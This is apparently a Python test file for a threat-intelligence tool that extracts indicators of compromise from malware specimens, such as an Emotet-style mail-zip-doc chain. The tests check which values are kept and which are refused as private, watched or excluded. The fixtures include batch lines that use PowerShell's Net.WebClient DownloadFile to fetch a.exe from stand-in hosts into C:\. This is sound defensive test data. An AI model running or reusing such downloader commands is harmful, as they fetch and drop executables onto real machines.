"""What of a specimen goes into the store, and what does not, by hand."""

from __future__ import annotations

import ipaddress
from datetime import UTC, date, datetime
from typing import TYPE_CHECKING

from noroshi.demo.specimens import family
from noroshi.demo.specimens.writing import files_of
from noroshi.examine.indicators import Refused, Terms, indicators_of
from noroshi.indicators.exclusions import load_exclusions
from noroshi.indicators.indicator import Indicator, Threat, Tlp
from noroshi.indicators.watched import Watched

if TYPE_CHECKING:
    from tests.examine.conftest import Examine

AT = datetime(2026, 11, 28, 12, tzinfo=UTC)
FACTS = family.of_the_day(20200722)
BATCH = (
    b"@echo off\r\npowershell (New-Object Net.WebClient).DownloadFile('http://192.0.2.9/a.exe','C:\\a.exe')\r\n"
    b"powershell (New-Object Net.WebClient).DownloadFile('http://10.1.2.3/a.exe','C:\\a.exe')\r\n"
    b"powershell (New-Object Net.WebClient).DownloadFile('http://pc1.corp.example/a.exe','C:\\a.exe')\r\n"
)


def made(found: list[Indicator | Refused]) -> dict[tuple[str, str], Indicator]:
    """The indicators by type and value."""
    return {(one.type, one.value): one for one in found if isinstance(one, Indicator)}


def test_the_day_gives_its_hashes_urls_and_domains(examined: Examine) -> None:
    """All hashes of the document and of the zip; neither the mail nor its sender nor its subject."""
    found = made(
        list(indicators_of(examined(files_of(FACTS)["mail-zip.eml"][2], "a.eml"), Terms(AT, Tlp.GREEN)))
    )
    hashes = FACTS.attachment.hashes()
    assert {(kind, value) for kind, value in hashes.items()} <= set(found)
    assert set(FACTS.downloads) == {value for type_, value in found if type_ == "url"}
    assert {"md5", "sha1", "sha256", "url", "domain"} == {type_ for type_, _ in found}
    assert 2 == len([1 for type_, _ in found if type_ == "sha256"])


def test_the_specimen_is_the_source(examined: Examine) -> None:
    """Source, reference, way, TLP, threat; the site is told as an ordinary one."""
    examination = examined(files_of(FACTS)["mail-zip.eml"][2], "a.eml")
    (claim,) = made(list(indicators_of(examination, Terms(AT, Tlp.GREEN, ("Emotet",)))))[
        "url", FACTS.served_url
    ].claims
    assert f"specimen:{examination.nodes[0].sha256[:16]}" == claim.source
    assert f"a.eml sha256:{examination.nodes[0].sha256}" == claim.reference
    assert (Tlp.GREEN, ("Emotet",), (Threat.DOWNLOAD,), True, AT) == (
        claim.tlp,
        claim.families,
        claim.threats,
        claim.compromised_site,
        claim.last_seen,
    )
    assert "file a.eml → attachment 請求書_20200722.zip → zip 請求書_20200722.doc" in claim.comments[0]


def test_what_is_ours_private_or_excluded_is_refused(examined: Examine) -> None:
    """Each with its reason; documentation addresses are taken."""
    terms = Terms(AT, watched=Watched(frozenset({"corp.example"}), (ipaddress.ip_network("172.16.0.0/12"),)))
    found = list(indicators_of(examined(BATCH, "a.cmd"), terms))
    refused = {(one.value, one.why, one.by) for one in found if isinstance(one, Refused)}
    assert ("10.1.2.3", "excluded", "private address") in refused
    assert ("pc1.corp.example", "watched", "corp.example") in refused
    assert ("ip", "192.0.2.9") in made(found)


def test_an_address_in_a_mails_text_is_not_sure_enough(examined: Examine) -> None:
    """It may be the sender's own."""
    mail = (
        b"From: a@one.example\r\nTo: b@two.example\r\nSubject: x\r\nDate: x\r\n\r\nhttp://shop.example/\r\n"
    )
    found = list(indicators_of(examined(mail, "a.eml"), Terms(AT)))
    assert {("http://shop.example/", "unsure"), ("shop.example", "unsure")} == {
        (one.value, one.why) for one in found if isinstance(one, Refused)
    }


def test_excluded_values_name_their_list(examined: Examine) -> None:
    """The bundled lists hold what everybody visits."""
    batch = b"@echo off\r\npowershell (New-Object Net.WebClient).DownloadFile('http://windowsupdate.com/a','C:\\a')\r\n"
    terms = Terms(AT, exclusions=load_exclusions([], date(2026, 11, 28)).snapshot)
    found = list(indicators_of(examined(batch, "a.cmd"), terms))
    assert {("domain", "excluded", "system-services"), ("url", "excluded", "system-services")} == {
        (one.type, one.why, one.by) for one in found if isinstance(one, Refused)
    }
